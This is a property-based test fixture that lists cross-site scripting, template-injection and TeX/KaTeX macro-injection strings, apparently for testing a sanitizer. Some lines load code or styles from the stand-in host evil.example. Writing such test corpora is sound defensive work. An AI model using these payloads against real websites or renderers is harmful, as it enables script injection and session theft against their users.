/** What is no markup and may run all the same: scripts, templates, TeX. */
import fc from 'fast-check';

export const SCRIPTS = fc.constantFrom(
  ...[
    '<script>HIT</script>',
    '<SCRIPT>HIT</SCRIPT>',
    '<script >HIT</script >',
    '<script/x>HIT</script>',
    '<script\n>HIT</script\n>',
  ],
  ...[
    '<svg><script>HIT</script></svg>',
    '<svg><script href="data:,HIT"/></svg>',
    '<math><script>HIT</script></math>',
    '<script type=module>HIT</script>',
  ],
  ...[
    '<script src="data:,HIT"></script>',
    '<scr<script>ipt>HIT</scr</script>ipt>',
    '<script>/*<!--<script>*/HIT//--></script>',
    '<ſcript>HIT</ſcript>',
  ],
  ...[
    '<iframe srcdoc="<script>parent.HIT</script>"></iframe>',
    '<iframe srcdoc="&lt;script&gt;parent.HIT&lt;/script&gt;"></iframe>',
  ],
  ...[
    '<template shadowrootmode=open><script>HIT</script></template>',
    '&lt;script&gt;HIT&lt;/script&gt;',
    '&#60;script&#62;HIT&#60;/script&#62;',
  ],
  ...[
    '\\u003cscript\\u003eHIT\\u003c/script\\u003e',
    '%3Cscript%3EHIT%3C/script%3E',
    '＜script＞HIT＜/script＞',
    '<script>HIT',
    '<!--><script>HIT</script>-->',
  ],
  ...[
    '<style>@import "javascript:HIT"</style>',
    '<div style="background:url(javascript:HIT)">',
    '<div style="width:expression(HIT)">',
    '<style>*{behavior:url(x)}</style><script>HIT</script>',
  ],
  ...[
    '<div style="-moz-binding:url(//evil.example/HIT)">',
    '<link rel=stylesheet href="//evil.example/HIT.css">',
    '<style>body{background:url(//evil.example/HIT)}</style>',
  ],
);

export const TEMPLATES = fc.constantFrom(
  ...[
    '{{HIT}}',
    '{{ "".constructor.constructor("HIT")() }}',
    '{% raw %}<script>HIT</script>{% endraw %}',
    '{% include "x" %}{{HIT|safe}}',
    '<%= HIT %>',
    '#{HIT}',
  ],
  ...[
    '$' + '{HIT}',
    '`$' + '{HIT}`',
    '{{constructor.constructor("HIT")()}}',
    "{{ range.constructor('return HIT')() }}",
    '{% set x = "<script>HIT</script>" %}{{ x|safe }}',
    '{%- if 1 -%}<script>HIT</script>{%- endif -%}',
  ],
  ...[
    '__proto__',
    'constructor',
    '"},"x":"</script><script>HIT</script>',
    '{"__proto__":{"onload":"HIT"}}',
    '</script><!--<script>HIT',
    "');HIT;//",
    '");HIT;//',
    '\\");HIT;//',
    '\u2029HIT\u2028',
    "'-HIT-'",
    '${'.concat('alert`1`}HIT'),
  ],
);

export const MATH = fc.constantFrom(
  ...[
    '\\href{javascript:HIT}{x}',
    '\\htmlData{onclick=HIT}{x}',
    '\\htmlStyle{background:url(javascript:HIT)}{x}',
    '\\htmlClass{x" onmouseover="HIT}{x}',
  ],
  ...[
    '\\htmlId{x" onmouseover="HIT}{x}',
    '\\text{<img src=x onerror=HIT>}',
    '\\text{</annotation><img src=x onerror=HIT>}',
    '\\unicode{<script>HIT</script>}',
  ],
  ...[
    '\\html@mathml{<img src=x onerror=HIT>}{x}',
    '\\includegraphics[alt={" onerror="HIT}]{x}',
    '\\url{javascript:HIT}',
    '\\def\\x{<script>HIT</script>}\\x',
    '\\tag{<img src=x onerror=HIT>}',
  ],
  ...[
    '\\color{red" onclick="HIT}x',
    '\\textcolor{#fff;x:expression(HIT)}{x}',
    '\\label{"><svg onload=HIT>}',
    '\\ref{"><svg onload=HIT>}',
    '\\operatorname{<b onclick=HIT>}',
    '\\begin{<script>HIT</script>}',
  ],
  ...[
    'x^{<script>HIT</script>}',
    '\\verb|<script>HIT</script>|',
    '\\class{x}{<img src=x onerror=HIT>}',
    '\\cssId{x}{y}<img src=x onerror=HIT>',
    '</math><img src=x onerror=HIT>',
    '\\char"3C script>HIT',
  ],
);
